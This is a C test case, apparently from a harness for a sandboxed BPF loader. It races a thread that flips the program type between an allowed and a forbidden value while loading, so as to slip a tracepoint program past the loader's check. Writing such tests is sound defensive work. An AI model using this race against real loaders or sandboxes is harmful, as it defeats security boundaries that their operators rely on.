// SPDX-License-Identifier: GPL-2.0-only OR MIT
#include <linux/bpf.h>
#include <pthread.h>
#include <time.h>

/* An allowed type, and tracepoint, which no loader of a network lesson may load. */
static union bpf_attr attr;
static volatile int done;

static void *flips(void *arg)
{
	(void)arg;
	while (!done) {
		*(volatile __u32 *)&attr.prog_type = BPF_PROG_TYPE_TRACEPOINT;
		*(volatile __u32 *)&attr.prog_type = BPF_PROG_TYPE_CGROUP_SKB;
	}
	return NULL;
}

static void attack(void)
{
	static const struct bpf_insn insns[] = {
		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 0, .imm = 1 },
		{ .code = BPF_JMP | BPF_EXIT },
	};
	time_t end = time(NULL) + 1;
	pthread_t thread;

	attr.insns = (unsigned long)insns;
	attr.insn_cnt = 2;
	attr.license = (unsigned long)"GPL";
	if (pthread_create(&thread, NULL, flips, NULL))
		return;
	while (time(NULL) < end) {
		struct bpf_prog_info info = { 0 };
		union bpf_attr ask = { 0 };
		int fd = syscall(SYS_bpf, BPF_PROG_LOAD, &attr, sizeof(attr));

		if (fd < 0)
			continue;
		ask.info.bpf_fd = fd;
		ask.info.info_len = sizeof(info);
		ask.info.info = (unsigned long)&info;
		if (!syscall(SYS_bpf, BPF_OBJ_GET_INFO_BY_FD, &ask, sizeof(ask)) &&
		    info.type == BPF_PROG_TYPE_TRACEPOINT)
			success("loaded a program of a type that is not allowed");
		close(fd);
	}
	done = 1;
	pthread_join(thread, NULL);
}
